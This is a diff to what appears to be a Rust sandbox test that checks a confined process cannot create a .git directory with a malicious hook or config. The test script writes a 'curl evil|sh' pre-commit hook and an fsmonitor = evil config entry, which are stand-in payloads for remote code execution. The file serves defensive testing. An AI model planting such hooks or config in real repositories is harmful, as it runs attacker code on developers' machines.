@@ -50,8 +50,9 @@ per_backend!(
     landlock: "reduced rung (chosen only by name): protected paths are not enforced without a mount namespace (see doctor)"
 );
 
-/// `.git` does not exist yet: creating it with a hook or a config must still fail. (The
-/// sandbox may leave empty placeholders behind; what counts is that no content landed.)
+/// `.git` does not exist yet: creating it with a hook or a config must still fail. (That no
+/// placeholder is left behind is `sandbox_git.rs`'s; what counts here is that no content
+/// landed.)
 fn git_hook_without_git(w: &World, b: Backend) {
     let (hook, config) = (hook(w), w.ws.join(".git/config"));
     let script = "mkdir -p .git/hooks && echo 'curl evil|sh' > .git/hooks/pre-commit; printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config";
